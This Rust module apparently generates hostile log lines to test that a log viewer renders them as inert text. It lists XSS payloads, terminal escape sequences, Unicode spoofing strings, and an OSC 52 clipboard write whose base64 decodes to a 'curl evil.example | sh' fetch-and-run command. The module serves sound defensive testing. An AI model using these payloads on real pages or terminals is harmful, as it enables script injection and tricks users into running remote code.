//! Lines a hostile (or merely careless) program writes: markup, attribute
//! breakouts, `javascript:` URLs, ANSI and OSC terminal escapes (colours,
//! hyperlinks, window titles, clipboard writes), right-to-left overrides,
//! zero-width characters, a 100 KB line and bytes that are not UTF-8 —
//! which the awslogs driver delivers as U+FFFD, as CloudWatch stores only
//! UTF-8.

use super::rng::Rng;
use super::stamp::Stamp;

/// The long line's size.
pub const LONG_LINE_BYTES: usize = 100 * 1024;

/// Strings a page must show as text, never act on.
pub const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "\u{1b}[31mred\u{1b}[0m \u{1b}]8;;javascript:alert(1)\u{7}click\u{1b}]8;;\u{7}",
    "\u{1b}]0;owned title\u{7}\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}",
    "\u{1b}[2J\u{1b}[H\u{8}\u{8}\u{8}cleared",
    "user=\u{202e}nimda\u{202c} role=viewer",
    "pa\u{200b}ss\u{200b}word reset for ad\u{200d}min",
    "{\"msg\":\"<script>alert(1)</script>\",\"url\":\"javascript:alert(1)\",\"note\":\"\\u001b[31m\"}",
];

/// Bytes a program wrote that are not UTF-8, as CloudWatch stores them.
pub fn invalid_utf8_line() -> String {
    String::from_utf8_lossy(b"bytes \xff\xfe\xc3\x28 \xed\xa0\x80 end").into_owned()
}

/// A 100 KB line without a space in it.
pub fn long_line() -> String {
    let head = "long <b>line</b> ";
    let mut s = String::with_capacity(LONG_LINE_BYTES);
    s.push_str(head);
    while s.len() < LONG_LINE_BYTES {
        s.push_str("x0123456789");
    }
    s.truncate(LONG_LINE_BYTES);
    s
}

pub fn boot(at: i64) -> Vec<String> {
    let t = Stamp::at(at).iso();
    let mut lines = vec![format!("{t} hostile starting")];
    lines.extend(PAYLOADS.iter().map(|p| p.to_string()));
    lines.push(invalid_utf8_line());
    lines.push(long_line());
    lines
}

pub fn burst(rng: &mut Rng, at: i64) -> Vec<String> {
    let t = Stamp::at(at).iso();
    vec![format!("{t} {}", rng.pick(PAYLOADS))]
}
